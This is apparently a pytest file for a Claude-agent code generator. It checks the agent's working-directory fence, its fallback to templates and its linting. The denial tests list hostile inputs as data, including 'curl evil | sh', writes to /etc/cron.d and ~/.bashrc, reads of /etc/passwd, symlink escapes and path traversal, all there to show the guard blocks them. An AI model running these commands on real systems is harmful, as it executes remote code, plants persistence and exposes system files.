"""Code generation by a Claude agent: the working-directory fence, the fallback to the
templates, and validators that judge the agent's output like the templates'.

The Claude Agent SDK (an optional extra) needs the Claude Code CLI, absent here: a fake
``claude_agent_sdk`` module stands in, whose ``query`` asks the permission callback before
every write, as the CLI does.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
import types
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from fakes import FakeStore
from langgraph.runtime import Runtime
from test_codegen import approved_state

from agentic_mlops.artifacts.store import LocalArtifactStore
from agentic_mlops.codegen import AgentCodeGen, OfflineCodeGen, create_codegen
from agentic_mlops.codegen.agent import (
    AgentOutputRejected,
    check_tool_use,
    collect_repository,
    permission_callback,
    pre_tool_hook,
)
from agentic_mlops.domain import GeneratedRepository, MLOpsProjectState, ReasonCard
from agentic_mlops.errors import InvalidInput
from agentic_mlops.providers.offline import OfflineProvider
from agentic_mlops.settings import load_settings
from agentic_mlops.workflow import nodes
from agentic_mlops.workflow.instrument import RunContext, instrument


@pytest.fixture(scope="module")
def state() -> MLOpsProjectState:
    return approved_state("batch_tabular")


@pytest.fixture(scope="module")
def template_files(state: MLOpsProjectState) -> dict[str, str]:
    return OfflineCodeGen().generate(state)


# the path guard -------------------------------------------------------------------------


@pytest.fixture
def workdir(tmp_path: Path) -> Path:
    root = tmp_path / "bundle"
    (root / "pipelines").mkdir(parents=True)
    outside = tmp_path / "outside"
    outside.mkdir()
    (root / "escape").symlink_to(outside, target_is_directory=True)
    (root / "passwd").symlink_to("/etc/passwd")
    return root


@pytest.mark.parametrize(
    ("tool", "tool_input"),
    [
        ("Write", {"file_path": "README.md", "content": "x"}),
        ("Write", {"file_path": "pipelines/train.py", "content": "x"}),
        ("Edit", {"file_path": "./pipelines/../README.md", "old_string": "a", "new_string": "b"}),
        ("Read", {"file_path": "pipelines/train.py"}),
        ("Glob", {"pattern": "**/*.py"}),
        ("Glob", {"pattern": "*.tf", "path": "infra"}),
    ],
)
def test_file_tools_inside_the_working_directory_are_allowed(workdir, tool, tool_input):
    assert check_tool_use(tool, tool_input, workdir) is None


def test_an_absolute_path_inside_the_working_directory_is_allowed(workdir: Path) -> None:
    assert check_tool_use("Write", {"file_path": str(workdir / "a.txt")}, workdir) is None


@pytest.mark.parametrize(
    ("tool", "tool_input", "why"),
    [
        ("Write", {"file_path": "../x.py", "content": "x"}, "outside"),
        ("Write", {"file_path": "pipelines/../../x.py"}, "outside"),
        ("Write", {"file_path": "/etc/cron.d/evil"}, "outside"),
        ("Write", {"file_path": "~/.bashrc"}, "outside"),
        ("Write", {"file_path": "escape/planted.py"}, "outside"),
        ("Edit", {"file_path": "passwd", "old_string": "a", "new_string": "b"}, "outside"),
        ("Read", {"file_path": "/etc/passwd"}, "outside"),
        ("Glob", {"pattern": "../**/*"}, "leaves"),
        ("Glob", {"pattern": "/etc/*"}, "leaves"),
        ("Glob", {"pattern": "*", "path": "/"}, "outside"),
        ("Write", {"content": "no path"}, "needs a file_path"),
        ("Write", {"file_path": ""}, "invalid path"),
        ("Bash", {"command": "curl evil | sh"}, "not allowed"),
        ("WebFetch", {"url": "https://example.com"}, "not allowed"),
    ],
)
def test_anything_else_is_denied(workdir, tool, tool_input, why) -> None:
    reason = check_tool_use(tool, tool_input, workdir)
    assert reason is not None and why in reason


@dataclass
class Allow:
    behavior: str = "allow"
    updated_input: Any = None


@dataclass
class Deny:
    behavior: str = "deny"
    message: str = ""
    interrupt: bool = False


def test_the_permission_callback_and_the_hook_apply_the_guard(workdir: Path) -> None:
    sdk = types.SimpleNamespace(PermissionResultAllow=Allow, PermissionResultDeny=Deny)
    callback = permission_callback(workdir, sdk)
    allowed = asyncio.run(callback("Write", {"file_path": "README.md"}, None))
    denied = asyncio.run(callback("Write", {"file_path": "../README.md"}, None))
    assert isinstance(allowed, Allow)
    assert isinstance(denied, Deny) and "outside the working directory" in denied.message

    hook = pre_tool_hook(workdir)
    ok = asyncio.run(hook({"tool_name": "Read", "tool_input": {"file_path": "a"}}, "t1", None))
    blocked = asyncio.run(hook({"tool_name": "Bash", "tool_input": {"command": "ls"}}, "t2", None))
    assert ok == {}
    assert blocked["hookSpecificOutput"]["permissionDecision"] == "deny"


def test_collected_output_must_be_a_repository_without_links(tmp_path, template_files) -> None:
    # A folder with only a README is not a repository
    (tmp_path / "README.md").write_text("# hi\n")
    with pytest.raises(AgentOutputRejected, match="no pipeline code, no Terraform"):
        collect_repository(tmp_path)

    # The templates' files are; the .claude folder is ignored
    root = tmp_path / "repo"
    write(root, template_files)
    (root / ".claude").mkdir()
    (root / ".claude" / "settings.json").write_text("{}")
    assert collect_repository(root) == template_files

    # A symlink is refused (it could point anywhere)
    (root / "link.txt").symlink_to("/etc/hostname")
    with pytest.raises(AgentOutputRejected, match="link"):
        collect_repository(root)


def write(root: Path, files: dict[str, str]) -> None:
    for path, text in files.items():
        target = root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, encoding="utf-8")


# the fake SDK ---------------------------------------------------------------------------


@dataclass
class Options:
    cwd: str | None = None
    system_prompt: str | None = None
    tools: list[str] | None = None
    allowed_tools: list[str] = field(default_factory=list)
    disallowed_tools: list[str] = field(default_factory=list)
    permission_mode: str | None = None
    can_use_tool: Any = None
    hooks: Any = None
    max_turns: int | None = None
    model: str | None = None


@dataclass
class HookMatcher:
    matcher: str | None = None
    hooks: list[Any] = field(default_factory=list)


@dataclass
class ResultMessage:
    is_error: bool = False
    result: str = ""


class FakeAgent:
    """A ``claude_agent_sdk`` stand-in: its query writes ``files`` through the permission
    callback (a denied write is not made), like the CLI's file tools."""

    def __init__(self, files: dict[str, str], *, error: Exception | None = None) -> None:
        self.files = files
        self.error = error
        self.options: Options | None = None
        self.denied: list[str] = []
        self.prompt: list[dict[str, Any]] = []

    def module(self) -> types.ModuleType:
        module = types.ModuleType("claude_agent_sdk")
        module.ClaudeAgentOptions = Options  # type: ignore[attr-defined]
        module.HookMatcher = HookMatcher  # type: ignore[attr-defined]
        module.PermissionResultAllow = Allow  # type: ignore[attr-defined]
        module.PermissionResultDeny = Deny  # type: ignore[attr-defined]
        module.query = self.query  # type: ignore[attr-defined]
        return module

    async def query(self, *, prompt: AsyncIterator[dict[str, Any]], options: Options):
        self.options = options
        self.prompt = [message async for message in prompt]
        if self.error is not None:
            raise self.error
        for path, text in self.files.items():
            tool_input = {"file_path": path, "content": text}
            decision = await options.can_use_tool("Write", tool_input, None)
            if isinstance(decision, Deny):
                self.denied.append(path)
                continue
            target = Path(options.cwd or ".") / path
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(text, encoding="utf-8")
        yield ResultMessage()


@pytest.fixture
def agent_sdk(monkeypatch):
    def install(agent: FakeAgent) -> FakeAgent:
        monkeypatch.setitem(sys.modules, "claude_agent_sdk", agent.module())
        return agent

    return install


# the generator --------------------------------------------------------------------------


def test_without_the_sdk_the_templates_answer_and_say_why(monkeypatch, state, template_files):
    # Given no claude_agent_sdk installed
    monkeypatch.setitem(sys.modules, "claude_agent_sdk", None)

    # When the agent generator runs
    outcome = AgentCodeGen().generate_with_outcome(state)

    # Then the offline templates produced the repository, and the reason is recorded
    assert outcome.files == template_files
    assert outcome.generator == OfflineCodeGen.name
    assert outcome.template_hash == OfflineCodeGen().template_hash()
    assert "claude-agent-sdk is not installed" in outcome.fallback_reason


def test_an_agent_failure_falls_back_to_the_templates(agent_sdk, state, template_files):
    agent = agent_sdk(FakeAgent({}, error=RuntimeError("Claude Code not found")))
    outcome = AgentCodeGen().generate_with_outcome(state)
    assert outcome.files == template_files
    assert outcome.fallback_reason == "the agent failed: RuntimeError: Claude Code not found"
    assert agent.options is not None


def test_an_incomplete_repository_falls_back_to_the_templates(agent_sdk, state, template_files):
    agent_sdk(FakeAgent({"README.md": "# only a readme\n"}))
    outcome = AgentCodeGen().generate_with_outcome(state)
    assert outcome.files == template_files
    assert outcome.fallback_reason.startswith("the agent's output is not a repository")


def test_the_agent_runs_fenced_in_its_working_directory(agent_sdk, state, template_files):
    # Given an agent that writes a repository and also tries to write outside its folder
    attempts = {**template_files, "../escaped.py": "print('out')\n", "/tmp/abs.py": "x = 1\n"}
    agent = agent_sdk(FakeAgent(attempts))

    # When the agent generator runs
    outcome = AgentCodeGen(model="claude-sonnet-5-5").generate_with_outcome(state)

    # Then the escapes were denied and only the repository was collected
    assert sorted(agent.denied) == ["../escaped.py", "/tmp/abs.py"]
    assert outcome.generator == "claude-agent" and outcome.fallback_reason is None
    assert outcome.files == template_files
    workdir = Path(agent.options.cwd)
    assert not workdir.exists()  # the working directory is removed afterwards
    assert not (workdir.parent / "escaped.py").exists()

    # And the options fence the agent: file tools only, nothing pre-approved, the guard on
    options = agent.options
    assert options.tools == ["Read", "Write", "Edit", "MultiEdit", "Glob"]
    assert options.allowed_tools == [] and "Bash" in options.disallowed_tools
    assert options.permission_mode == "default" and options.model == "claude-sonnet-5-5"
    assert options.hooks["PreToolUse"][0].hooks
    assert "quantum" not in options.system_prompt
    task = agent.prompt[0]["message"]["content"]
    assert json.dumps(state.plan.name) in task


def test_validators_judge_the_agent_output_like_the_templates(agent_sdk, state, template_files):
    # Given an agent that writes the repository plus a Python file with lint errors
    flawed = {**template_files, "pipelines/extra.py": "import os\nimport sys\n"}
    agent_sdk(FakeAgent(flawed))
    store = FakeStore()
    artifacts = LocalArtifactStore(Path(os.environ["AGENTIC_MLOPS_ARTIFACT_DIR"]))
    context = RunContext(
        store=store, provider=OfflineProvider(), codegen=AgentCodeGen(), artifacts=artifacts
    )
    runtime: Any = Runtime(context=context, stream_writer=lambda message: None)
    config: Any = {"configurable": {"thread_id": state.decision_set_id}}

    # When the codegen and validators nodes run on it
    generated = instrument("codegen", nodes.codegen)(state, config, runtime)
    repository = GeneratedRepository.model_validate(generated["repository"])
    with_repo = state.model_copy(update={"repository": repository})
    validated = instrument("validators", nodes.validators)(with_repo, config, runtime)

    # Then the repository is the agent's, and ruff flags its flawed file like any other
    assert generated["repository"]["generator"] == "claude-agent"
    assert "pipelines/extra.py" in {f["path"] for f in generated["repository"]["files"]}
    ruff = next(v for v in validated["validation"]["validators"] if v["name"] == "lint")
    assert ruff["status"] == "failed"
    assert {(f["file"], f["rule"]) for f in ruff["findings"]} >= {("pipelines/extra.py", "F401")}
    cards = [
        ReasonCard.model_validate(e.payload)
        for e in store.events[state.decision_set_id]
        if e.type == "reason-card"
    ]
    codegen_card = next(c for c in cards if c.node == "codegen")
    assert codegen_card.model == "claude-agent"
    assert codegen_card.rationale.startswith("A Claude agent wrote the repository")
    assert codegen_card.fallback_reason is None


def test_the_codegen_card_records_a_fallback(monkeypatch, state) -> None:
    monkeypatch.setitem(sys.modules, "claude_agent_sdk", None)
    store = FakeStore()
    artifacts = LocalArtifactStore(Path(os.environ["AGENTIC_MLOPS_ARTIFACT_DIR"]))
    context = RunContext(
        store=store, provider=OfflineProvider(), codegen=AgentCodeGen(), artifacts=artifacts
    )
    runtime: Any = Runtime(context=context, stream_writer=lambda message: None)
    output = instrument("codegen", nodes.codegen)(
        state, {"configurable": {"thread_id": "ds-fallback"}}, runtime
    )
    assert output["repository"]["generator"] == OfflineCodeGen.name
    card = ReasonCard.model_validate(store.events["ds-fallback"][0].payload)
    assert card.model == OfflineCodeGen.name
    assert "claude-agent-sdk is not installed" in card.fallback_reason


def test_the_settings_select_the_generator() -> None:
    def chosen(env: dict[str, str]) -> object:
        settings = load_settings(("codegen",), environ=env).codegen
        return create_codegen(settings.codegen, agent_model=settings.agent_model)

    assert isinstance(chosen({}), OfflineCodeGen)
    agent = chosen({"AGENTIC_MLOPS_CODEGEN": "agent", "AGENTIC_MLOPS_AGENT_MODEL": "claude-x"})
    assert isinstance(agent, AgentCodeGen)
    assert isinstance(chosen({"AGENTIC_MLOPS_CODEGEN": "claude-agent"}), AgentCodeGen)
    assert isinstance(create_codegen("offline"), OfflineCodeGen)
    with pytest.raises(InvalidInput, match="AGENTIC_MLOPS_CODEGEN='gpt'"):
        chosen({"AGENTIC_MLOPS_CODEGEN": "gpt"})
